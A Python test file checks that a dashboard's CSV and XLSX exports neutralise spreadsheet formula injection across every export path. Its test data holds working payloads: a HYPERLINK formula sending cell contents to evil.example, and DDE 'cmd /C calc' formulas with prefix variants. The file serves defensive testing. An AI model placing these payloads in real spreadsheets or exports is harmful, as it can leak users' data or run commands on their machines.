"""No formulas in exports: a hostile ledger (formula names for customers, owners, orders and
columns) goes through every CSV and XLSX the product writes as text."""

from __future__ import annotations

import base64
import csv
import io
from datetime import datetime, timezone

import openpyxl
import pandas as pd
import pytest

from dashboard.app import create_app
from dashboard.callbacks import stage as stage_cb
from dashboard.callbacks.order import export_events
from dashboard.callbacks.review import export_file, load_report
from dashboard.export import table_bytes, workbook_bytes
from dashboard.report.charts import CHART_IDS
from dashboard.report.tables import TABLE_IDS
from datasource.formula_guard import defused, defused_frame, defused_row
from datasource.importers.run import run_import
from datasource.settings import Settings
from orderboard.weekly_job import write_report

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&A1,"Click me")'
CALC = "=cmd|' /C calc'!A0"
NOW = datetime(2026, 11, 12, 8, 0, tzinfo=timezone.utc)
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


@pytest.mark.parametrize("value, expected", [
    (HYPERLINK, "'" + HYPERLINK), (CALC, "'" + CALC),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"), ("-2+3", "'-2+3"), ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
    ("\t=1+1", "'\t=1+1"), ("\r=1+1", "'\r=1+1"), ("=", "'="), ("-", "'-"),
    # numbers stay numbers, text that is just a number too
    (-3.5, -3.5), (-7, -7), ("-12.5", "-12.5"), ("+3", "+3"), ("-1,200", "-1,200"), ("-1e5", "-1e5"),
    # plain text, missing values and other types are left alone
    ("华东机电", "华东机电"), ("a=b", "a=b"), ("", ""), (None, None),
    (pd.Timestamp("2026-11-02"), pd.Timestamp("2026-11-02")),
])
def test_defused(value, expected):
    assert defused(value) == expected


def test_defused_frame_keeps_numbers_and_does_not_touch_its_input():
    frame = pd.DataFrame({"=name": [HYPERLINK, "ok", None], "late_h": [-3.5, 1.0, None],
                          "n": [-1, 2, 3], "at": pd.to_datetime(["2026-11-02", None, "2026-11-03"])})
    before = frame.copy()
    out = defused_frame(frame)
    pd.testing.assert_frame_equal(frame, before)
    assert list(out.columns) == ["'=name", "late_h", "n", "at"]
    assert out["'=name"].tolist()[:2] == ["'" + HYPERLINK, "ok"] and pd.isna(out["'=name"].iloc[2])
    assert out["late_h"].tolist()[:2] == [-3.5, 1.0] and out["n"].tolist() == [-1, 2, 3]
    assert out["at"].dtype == frame["at"].dtype and defused_row([CALC, -2]) == ["'" + CALC, -2]


def test_xlsx_text_is_text_and_numbers_are_numbers():
    frame = pd.DataFrame({"customer": [HYPERLINK, "#N/A", "-2+3"], "late_h": [-3.5, 2.0, 0.0]})
    sheet = openpyxl.load_workbook(io.BytesIO(table_bytes(frame, "xlsx"))).active
    rows = list(sheet.iter_rows(min_row=2, values_only=False))
    assert [(r[0].value, r[0].data_type) for r in rows] == [
        ("'" + HYPERLINK, "s"), ("#N/A", "s"), ("'-2+3", "s")]
    assert [(r[1].value, r[1].data_type) for r in rows] == [(-3.5, "n"), (2, "n"), (0, "n")]


# -- the hostile ledger through every writer ---------------------------------------------

MAPPING = """
shape = "events"
timezone = "UTC"
promised_is_date = true
[columns]
order_number = "order"
stage = "stage"
timestamp = "time"
event_type = "type"
customer = "customer"
owner = "owner"
promised = "promised"
note = "note"
"""
BAD_ORDER = "@SUM(1+1)*cmd|' /C calc'!A0"


def _ledger() -> list[list[str]]:
    rows = [["order", "stage", "time", "type", "customer", "owner", "promised", "note",
             '=HYPERLINK("http://evil.example/","column")']]
    late = [("placed", "2026-11-02 09:00"), ("reviewed", "2026-11-02 12:00"), ("paid", "2026-11-02 15:00"),
            ("produced", "2026-11-03 09:00"), ("inspected", "2026-11-05 09:00"),
            ("shipped", "2026-11-06 09:00"), ("received", "2026-11-07 10:00")]
    for stage, time in late:
        rows.append(["SO-1", stage, time, "enter", HYPERLINK, CALC, "2026-11-05", "", "x"])
    rows.append(["SO-1", "inspected", "2026-11-05 10:00", "note", "", "", "", "=1+2", ""])
    for stage, time in [("placed", "2026-11-03 10:00"), ("reviewed", "2026-11-04 10:00")]:
        rows.append([BAD_ORDER, stage, time, "enter", "+1+cmd|' /C calc'!A0", "-2+3", "2026-11-06", "", ""])
    # the same order, another customer: a warning naming the hostile order and both names
    rows.append([BAD_ORDER, "produced", "2026-11-05 10:00", "enter", "\t=2+5", "", "", "", ""])
    # an unknown stage: a reject carrying the row's hostile values
    rows.append(["SO-9", "=evil()", "2026-11-04 10:00", "enter", "@cmd", "\r=3", "", "", ""])
    return rows


def _csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")) for cell in row]


def _is_number(text: str) -> bool:
    try:
        float(text.replace(",", ""))
        return True
    except ValueError:
        return False


def _raw_formulas(cells: list[str]) -> list[str]:
    return [c for c in cells if c.startswith(FORMULA_STARTS) and not _is_number(c)]


def _formula_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [f"{ws.title}!{c.coordinate}" for ws in book.worksheets for row in ws.iter_rows() for c in row
            if c.data_type == "f"]


def _text_cells(data: bytes) -> list[str]:
    book = openpyxl.load_workbook(io.BytesIO(data))
    return [c.value for ws in book.worksheets for row in ws.iter_rows() for c in row if isinstance(c.value, str)]


def _sent(download: dict) -> bytes:
    return base64.b64decode(download["content"])


@pytest.fixture
def hostile(sqlite_store, tmp_path):
    ledger, mapping = tmp_path / "ledger.csv", tmp_path / "mapping.toml"
    with ledger.open("w", newline="", encoding="utf-8") as fh:
        csv.writer(fh).writerows(_ledger())
    mapping.write_text(MAPPING, "utf-8")
    report = run_import(sqlite_store.url, sqlite_store.pipeline, ledger, mapping,
                        rejects_path=tmp_path / "ledger.rejects.csv")
    settings = Settings(database_url=sqlite_store.url, cache_dir=str(tmp_path / "cache"),
                        pipeline=sqlite_store.pipeline, report_dir=str(tmp_path / "reports"))
    ctx = create_app(settings, engine=sqlite_store.engine).server.config["ORDERBOARD_CONTEXT"]
    ctx.service.clock = lambda: NOW
    return ctx, report


def test_a_hostile_ledger_leaves_no_formula_in_any_export(hostile, tmp_path):
    ctx, imported = hostile
    assert imported.imported >= 10 and len(imported.rejects) == 1 and imported.warnings
    csvs: dict[str, bytes] = {
        "rejects": imported.rejects_path.read_bytes(), "warnings": imported.warnings_path.read_bytes(),
        "events": _sent(export_events(ctx, "SO-1")),
    }
    xlsxs: dict[str, bytes] = {}
    for link in ("/stages/all?from=2026-11-01&to=2026-11-10", "/stages/all?metric=delay_rate&from=2026-11-01&to=2026-11-10",
                 "/stages/reviewed?view=wip&days=30"):
        path, _, query = link.partition("?")
        csvs[link] = _sent(stage_cb.export_list(ctx, path, "?" + query, "csv", now=NOW))
        xlsxs[link] = _sent(stage_cb.export_list(ctx, path, "?" + query, "xlsx", now=NOW))
    report = load_report(ctx, {"week": "2026-W45", "lang": "en"})
    for item in (t for t in TABLE_IDS if t not in CHART_IDS):  # "exceptions" is a chart on the page
        csvs[f"review {item}"] = export_file(report, item, "csv", "en")[0]
        xlsxs[f"review {item}"] = export_file(report, item, "xlsx", "en")[0]
    xlsxs["review report"] = export_file(report, "report", "xlsx", "en")[0]
    weekly = tmp_path / "weekly.xlsx"
    write_report(ctx.engine, ctx.settings, "2026-W45", "xlsx", weekly, NOW)
    xlsxs["weekly workbook"] = weekly.read_bytes()

    for name, data in csvs.items():
        assert _raw_formulas(_csv_cells(data)) == [], name
    for name, data in xlsxs.items():
        assert _formula_cells(data) == [], name
    # The hostile text is there, as text: the test reads the cells it means to.
    every_csv = [c for data in csvs.values() for c in _csv_cells(data)]
    every_xlsx = [c for data in xlsxs.values() for c in _text_cells(data)]
    for text in (HYPERLINK, CALC, BAD_ORDER):
        assert "'" + text in every_csv and "'" + text in every_xlsx, text
    assert "'=evil()" in _csv_cells(csvs["rejects"])
    assert '\'=HYPERLINK("http://evil.example/","column")' in _csv_cells(csvs["rejects"])
    assert "'" + BAD_ORDER in _csv_cells(csvs["warnings"])
    assert "'=1+2" in _csv_cells(csvs["events"])


def test_workbook_headers_and_sheets_are_text(tmp_path):
    data = workbook_bytes({"=sheet": pd.DataFrame({CALC: [1, -2]})})
    book = openpyxl.load_workbook(io.BytesIO(data))
    sheet = book.worksheets[0]
    assert (sheet["A1"].value, sheet["A1"].data_type) == ("'" + CALC, "s")
    assert [sheet["A2"].value, sheet["A3"].value] == [1, -2]
